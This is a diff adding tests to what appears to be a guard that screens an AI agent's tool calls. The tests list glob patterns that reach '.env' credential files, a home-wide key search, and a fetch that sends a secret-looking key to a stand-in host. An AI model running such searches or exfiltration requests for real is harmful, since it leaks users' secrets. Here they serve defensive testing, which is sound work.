@@ -218,3 +218,26 @@ def test_an_approved_reading_runs_once(host: Host) -> None:
         runtime.approvals.approve(approval_id, Label("ada"), "needed")
     assert host.before("Bash", **READ) == Verdict()
     assert host.before("Bash", **READ).decision is Decision.DENY
+
+
+@pytest.mark.parametrize("glob", [".e*", "*nv", ".*", "{.env,a}", "**/.[e]nv"])
+def test_search_by_a_pattern_that_finds_credentials_is_asked(host: Host, glob: str) -> None:
+    assert host.before("Grep", pattern=".", glob=glob, output_mode="content").decision is Decision.ASK
+
+
+@pytest.mark.parametrize("glob", ["*", "*.{ts,tsx}", "**/*.py", "*.json", ".github/**"])
+def test_search_of_a_projects_own_files_is_not(host: Host, glob: str) -> None:
+    assert host.before("Grep", pattern=".", glob=glob, output_mode="content") == Verdict()
+
+
+def test_search_of_a_whole_home_is_asked(host: Host) -> None:
+    assert host.before("Grep", pattern="KEY", path="~", output_mode="content").decision is Decision.ASK
+
+
+def test_fetch_of_an_address_with_data_is_asked_after_a_secret_was_read(host: Host) -> None:
+    address = "https://c.example.net/?k=sk_live_abcdefghijk"
+    assert host.before("WebFetch", url=address, prompt="x") == Verdict()
+    host.before("Bash", "t1", **READ)
+    host.after("Bash", "t1", **READ)
+    assert host.before("WebFetch", url=address, prompt="x").decision is Decision.ASK
+    assert host.before("WebFetch", url="https://docs.example.org/os.html", prompt="x") == Verdict()
